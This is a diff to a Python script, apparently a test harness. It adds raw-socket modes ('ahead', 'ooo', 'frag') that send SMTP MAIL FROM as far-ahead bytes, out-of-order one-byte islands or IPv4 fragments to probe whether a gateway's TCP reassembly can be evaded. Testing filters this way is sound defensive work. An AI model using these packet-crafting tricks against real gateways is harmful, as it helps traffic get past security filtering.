@@ -26,12 +26,28 @@ MODE:
           whose Message-ID is <LOCAL.MSGID>, LOCAL the sender's local
           part), each reply printed as "VERB REPLY", until one is not the
           expected 250 or 354.
+  ahead   one byte far beyond the stream (AHEAD bytes past the client's
+          next sequence number, default 100000: outside the server's
+          window and the gateway's reassembly window), then the real
+          MAIL FROM
+  ooo     17 one-byte pieces of MAIL FROM:<FROM>, each at its own offset
+          with a one-byte hole before it (17 out-of-order islands, one
+          more than the gateway's reassembly keeps), then the whole line:
+          the server reads the line once
+  frag    MAIL FROM:<FROM> in one TCP segment carried in two IPv4
+          fragments (the first with the TCP header and 4 bytes), then,
+          after FRAG_WAIT seconds (default 1), the same line at the same
+          sequence number from the socket (a retransmission to a server
+          that reassembled the fragments); prints the reply to the
+          fragments, "timeout" when none came before the socket's copy,
+          then the reply to the line
 
 The crafted segments are sent on a raw socket (IP_HDRINCL) from this
 namespace, with the connection's sequence and acknowledgement numbers read
 from an AF_PACKET capture of its own interface (IFACE, default eth0).
 """
 import os
+import select
 import socket
 import struct
 import sys
@@ -51,16 +67,34 @@ def csum(data):
     return ~s & 0xFFFF
 
 
-def segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum=False):
+def tcp_segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum=False):
+    """The TCP header and payload, with its checksum (wrong if bad_sum)."""
     tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 502, 0, 0) + payload
     pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
     s = csum(pseudo + tcp)
     if bad_sum:
         s ^= 0x5A5A
-    tcp = tcp[:16] + struct.pack("!H", s) + tcp[18:]
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x1234, 0x4000, 64, 6, 0,
-                     socket.inet_aton(src), socket.inet_aton(dst))
-    return ip + tcp
+    return tcp[:16] + struct.pack("!H", s) + tcp[18:]
+
+
+def ip_header(src, dst, length, ident=0x1234, frag=0x4000):
+    """An IPv4 header for TCP; frag is the flags and offset field."""
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, ident, frag, 64, 6, 0,
+                       socket.inet_aton(src), socket.inet_aton(dst))
+
+
+def segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum=False):
+    tcp = tcp_segment(src, sport, dst, dport, seq, ack, flags, payload, bad_sum)
+    return ip_header(src, dst, len(tcp)) + tcp
+
+
+def fragments(src, sport, dst, dport, seq, ack, payload, first=24):
+    """One TCP segment as two IPv4 fragments: the first `first` bytes
+    (a multiple of 8) with More Fragments, then the rest at that offset."""
+    tcp = tcp_segment(src, sport, dst, dport, seq, ack, 0x18, payload)
+    ident = 0x4000 | (sport & 0x3FFF)
+    return [ip_header(src, dst, first, ident, 0x2000) + tcp[:first],
+            ip_header(src, dst, len(tcp) - first, ident, first // 8) + tcp[first:]]
 
 
 class Tap:
@@ -141,6 +175,18 @@ def main():
         print("no capture")
         return 1
     mail = b"MAIL FROM:<%s>\r\n" % sender.encode()
+    if mode == "ooo" and len(mail) < 35:
+        print("ooo needs a longer sender")
+        return 2
+    try:
+        return attack(mode, s, f, raw, tap, local, lport, server, sender, mail)
+    except OSError:  # a reset: the gateway blocked the flow
+        print("closed")
+        return 0
+
+
+def attack(mode, s, f, raw, tap, local, lport, server, sender, mail):
+    """The trick, then the replies (see the module's comment)."""
     if mode == "badsum":
         decoy = b"MAIL FROM:<decoy@example.com>\r\n"
         raw.sendto(segment(local, lport, server, 25, tap.next_seq, tap.ack, 0x18, decoy, True),
@@ -163,6 +209,27 @@ def main():
                            0x04, b""), (server, 0))
         time.sleep(0.3)
         s.sendall(mail[half:])
+    elif mode == "ahead":
+        far = (tap.next_seq + int(os.environ.get("AHEAD", "100000"))) & 0xFFFFFFFF
+        raw.sendto(segment(local, lport, server, 25, far, tap.ack, 0x18, b"X"), (server, 0))
+        time.sleep(0.3)
+        s.sendall(mail)
+    elif mode == "ooo":
+        for off in range(1, 35, 2):  # 17 islands, a hole before each
+            raw.sendto(segment(local, lport, server, 25, (tap.next_seq + off) & 0xFFFFFFFF,
+                               tap.ack, 0x18, mail[off:off + 1]), (server, 0))
+            time.sleep(0.01)
+        time.sleep(0.3)
+        s.sendall(mail)
+    elif mode == "frag":
+        for frag in fragments(local, lport, server, 25, tap.next_seq, tap.ack, mail):
+            raw.sendto(frag, (server, 0))
+        # (a timed-out read would end the file object: select instead)
+        if select.select([s], [], [], float(os.environ.get("FRAG_WAIT", "1")))[0]:
+            print(reply(f))
+        else:
+            print("timeout")
+        s.sendall(mail)
     elif mode == "quitsum":
         raw.sendto(segment(local, lport, server, 25, tap.next_seq, tap.ack, 0x18, b"QUIT\r\n",
                            True), (server, 0))
